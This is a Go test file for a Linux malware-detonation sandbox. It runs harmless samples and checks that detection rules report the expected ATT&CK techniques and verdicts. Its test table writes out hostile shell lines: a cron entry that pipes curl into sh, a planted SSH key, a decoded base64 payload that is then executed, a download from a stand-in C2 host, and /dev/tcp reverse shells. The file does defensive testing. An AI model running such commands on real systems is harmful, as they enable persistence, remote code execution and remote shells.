//go:build linux

package sandbox

import (
	"context"
	"debug/elf"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/quarry-sec/quarry/attack"
	"github.com/quarry-sec/quarry/detections"
	"github.com/quarry-sec/quarry/detections/ruleset"
	"github.com/quarry-sec/quarry/telemetry/eventstore"
	"github.com/quarry-sec/quarry/telemetry/host"
)

var (
	rulesOnce sync.Once
	testRules []*detections.Rule
	testKB    *attack.KB
	rulesErr  error
)

// loadTestRules loads the builtin rules, and SigmaHQ's Linux rules when
// ../shared is there.
func loadTestRules(t testing.TB) ([]*detections.Rule, *attack.KB) {
	t.Helper()
	rulesOnce.Do(func() {
		if testKB, rulesErr = attack.Embedded(); rulesErr != nil {
			return
		}
		cfg := ruleset.Config{Builtin: true, KB: testKB}
		sigma := filepath.Join("..", "..", "shared", "sigma", "rules", "linux")
		if _, err := os.Stat(sigma); err == nil {
			cfg.Sigma = []string{sigma}
		}
		res, err := ruleset.Load(cfg)
		if err != nil {
			rulesErr = err
			return
		}
		testRules = res.Rules
	})
	if rulesErr != nil {
		t.Fatal(rulesErr)
	}
	return testRules, testKB
}

// needDetonate skips a test when the sandbox or the eBPF collectors cannot
// run here.
func needDetonate(t testing.TB) {
	t.Helper()
	needSandbox(t)
	if _, err := os.Stat("/sys/kernel/btf/vmlinux"); err != nil {
		t.Skip("no kernel BTF (/sys/kernel/btf/vmlinux): the eBPF collectors cannot load: skipped")
	}
}

func detonate(t testing.TB, sample string, opts Options) (*Report, *eventstore.Store) {
	t.Helper()
	rules, kb := loadTestRules(t)
	st, err := eventstore.Open(filepath.Join(t.TempDir(), eventstore.FileName))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	if opts.Timeout == 0 {
		opts.Timeout = 30 * time.Second
	}
	run, rep, err := Detonate(context.Background(), sample, DetonateOptions{Options: opts, Store: st, Rules: rules, KB: kb, Host: host.Identifier()})
	if err != nil {
		t.Fatal(err)
	}
	stored, ok, err := st.SandboxRun(context.Background(), run.ID)
	if err != nil || !ok || stored.Verdict != rep.Verdict || len(stored.Report) == 0 {
		t.Fatalf("run not stored: %v %v %+v", ok, err, stored)
	}
	return rep, st
}

// buildImplant builds testdata/implant as a static ELF.
func buildImplant(t *testing.T) string {
	t.Helper()
	out := filepath.Join(t.TempDir(), "implant")
	cmd := exec.Command("go", "build", "-o", out, "./testdata/implant")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build implant: %v: %s", err, b)
	}
	// A static ELF: no program interpreter (dynamic loader) to run it.
	f, err := elf.Open(out)
	if err != nil {
		t.Fatalf("implant is not an ELF: %v", err)
	}
	defer f.Close()
	for _, p := range f.Progs {
		if p.Type == elf.PT_INTERP {
			t.Fatal("implant is not static: it has a program interpreter")
		}
	}
	return out
}

// Each harmless sample doing a typical attacker step is reported with its
// techniques, a verdict and its process in the tree. The expected
// techniques are those of Quarry's builtin rules (SigmaHQ's, when
// ../shared is there, add more; none is required here).
func TestDetonateSamples(t *testing.T) {
	needDetonate(t)
	cases := []struct {
		name       string
		body       string // a shell script, or "" for the implant ELF
		network    string
		techniques []string
		not        []string // techniques that would be wrong here
		verdict    string
		inTree     string            // a command line in the tree, with one of techniques as its badge
		badges     map[string]string // command line → its only badges (comma-separated)
		file       string            // a file reported, with a hash unless deleted
		dest       string            // a network destination reported
	}{
		{name: "discovery", body: "id; uname -a; whoami; hostname; cat /etc/passwd >/dev/null; ps aux >/dev/null\n",
			techniques: []string{"T1033", "T1082", "T1087.001"}, verdict: "suspicious", inTree: "whoami",
			badges: map[string]string{"whoami": "T1033", "uname -a": "T1082", "ps aux": "T1057"}},
		{name: "systemd-persistence", body: "mkdir -p $HOME/.config/systemd/user\nprintf '[Service]\\nExecStart=/tmp/x\\n' > $HOME/.config/systemd/user/updater.service\n",
			techniques: []string{"T1543.002"}, verdict: "suspicious", file: Home + "/.config/systemd/user/updater.service"},
		// The system cron files are read-only in the sandbox: the writes
		// fail, and the commands that tried are what is reported.
		{name: "cron-persistence", body: "echo '*/5 * * * * curl -s http://198.51.100.7/m.sh | sh' | tee -a /etc/crontab >/dev/null\nsh -c \"echo '@reboot /tmp/.x' >> /etc/cron.d/updater\"\n",
			techniques: []string{"T1053.003"}, verdict: "suspicious", inTree: "tee -a /etc/crontab"},
		{name: "authorized-keys", body: "mkdir -p $HOME/.ssh\necho 'ssh-ed25519 AAAAC3Nza attacker@c2' >> $HOME/.ssh/authorized_keys\n",
			techniques: []string{"T1098.004"}, verdict: "suspicious", file: Home + "/.ssh/authorized_keys"},
		{name: "base64-payload", body: "echo 'IyEvYmluL3NoCmlkCg==' | base64 -d > /tmp/.p; chmod +x /tmp/.p; /tmp/.p\n",
			techniques: []string{"T1140", "T1222.002", "T1564.001"}, verdict: "malicious", inTree: "/tmp/.p", file: "/tmp/.p"},
		{name: "download", network: NetworkSink, body: "curl -s -m 5 -o /tmp/stage2 http://cdn.evil-c2.example/stage2\n",
			techniques: []string{"T1105"}, verdict: "suspicious", inTree: "curl -s -m 5", dest: "cdn.evil-c2.example"},
		{name: "reverse-shell", network: NetworkSink, body: "bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444; echo id >&3' \n",
			techniques: []string{"T1059.004", "T1095"}, not: []string{"T1496"}, verdict: "malicious", inTree: "/dev/tcp/203.0.113.7/4444", dest: "203.0.113.7:4444"},
		// IPv6 C2 reaches the sink too; the connection the collectors saw
		// and what the sink recorded are one destination.
		{name: "reverse-shell-ipv6", network: NetworkSink, body: "bash -c 'exec 3<>/dev/tcp/2001:db8::7/4444; echo id >&3' \n",
			techniques: []string{"T1059.004", "T1095"}, verdict: "malicious", dest: "[2001:db8::7]:4444"},
		{name: "self-deleting-elf", network: NetworkSink,
			techniques: []string{"T1070.004"}, verdict: "malicious", inTree: SamplePath, dest: "203.0.113.7:4444"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			sample := ""
			if c.body == "" {
				sample = buildImplant(t)
			} else {
				sample = script(t, c.body)
			}
			rep, _ := detonate(t, sample, Options{Network: c.network})
			t.Logf("%s (%.1f): %v", rep.Verdict, rep.Score, rep.techniqueIDs())
			for _, r := range rep.Rules {
				t.Logf("  %s %s %s %v", r.Source, r.Severity, r.Title, r.Techniques)
			}
			seen := map[string]bool{}
			for _, tq := range rep.Techniques {
				seen[tq.ID] = true
			}
			for _, want := range c.techniques {
				if !seen[want] {
					t.Errorf("technique %s not reported: %v", want, rep.techniqueIDs())
				}
			}
			for _, wrong := range c.not {
				if seen[wrong] {
					t.Errorf("technique %s reported: %v", wrong, rep.techniqueIDs())
				}
			}
			if rank(rep.Verdict) < rank(c.verdict) {
				t.Errorf("verdict %s (score %.1f), want at least %s", rep.Verdict, rep.Score, c.verdict)
			}
			if len(rep.Tactics) == 0 || len(rep.Tree) == 0 {
				t.Errorf("no tactics or tree: %+v", rep)
			}
			if c.inTree != "" && !treeHas(rep.Tree, c.inTree, c.techniques) {
				t.Errorf("%q with a badge of %v not in the tree", c.inTree, c.techniques)
			}
			for cmd, want := range c.badges {
				if got := badgesOf(rep.Tree, cmd); got != want {
					t.Errorf("badges of %q: %q, want %q", cmd, got, want)
				}
			}
			if c.file != "" {
				found := false
				for _, f := range rep.Files {
					found = found || (f.Path == c.file && len(f.SHA256) == 64)
				}
				if !found {
					t.Errorf("file %s not reported with its hash: %+v", c.file, rep.Files)
				}
			}
			if c.dest != "" {
				found := false
				for _, d := range rep.Network {
					found = found || (d.Dest == c.dest && len(d.Sink) > 0 && d.Process != "")
				}
				if !found {
					t.Errorf("destination %s not reported with its process and what the sink recorded: %+v", c.dest, rep.Network)
				}
			}
			if t.Failed() {
				b, _ := jsonIndent(rep)
				t.Logf("report: %s", b)
			}
		})
	}
}

func rank(verdict string) int {
	return map[string]int{"clean": 0, "suspicious": 1, "malicious": 2}[verdict]
}

// treeHas reports whether a process whose command line contains cmd has a
// badge among techniques (any badge when techniques is empty).
func treeHas(nodes []*Node, cmd string, techniques []string) bool {
	for _, n := range nodes {
		if strings.Contains(n.Cmdline, cmd) {
			for _, b := range n.Techniques {
				for _, t := range techniques {
					if b == t {
						return true
					}
				}
			}
		}
		if treeHas(n.Children, cmd, techniques) {
			return true
		}
	}
	return false
}

// badgesOf returns the badges of the first process whose command line is
// cmd, sorted and comma-separated.
func badgesOf(nodes []*Node, cmd string) string {
	for _, n := range nodes {
		if n.Cmdline == cmd {
			b := slices.Clone(n.Techniques)
			slices.Sort(b)
			return strings.Join(slices.Compact(b), ",")
		}
		if b := badgesOf(n.Children, cmd); b != "" {
			return b
		}
	}
	return ""
}
